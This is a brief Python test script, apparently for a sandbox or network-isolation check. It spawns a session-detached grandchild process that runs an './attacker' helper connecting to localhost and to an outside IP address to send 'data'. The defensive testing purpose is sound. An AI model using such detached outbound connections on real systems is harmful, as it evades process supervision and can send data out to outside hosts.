"""A grandchild that has left the session and its parents."""
import os
import subprocess
import time

subprocess.run(["sh", "-c", "setsid sh -c './attacker connect raw 127.0.0.1:9000 near; ./attacker connect raw 93.184.216.35:9000 data; echo >done' &"])
end = time.monotonic() + 5
while not os.path.exists("done") and time.monotonic() < end:
    time.sleep(0.02)
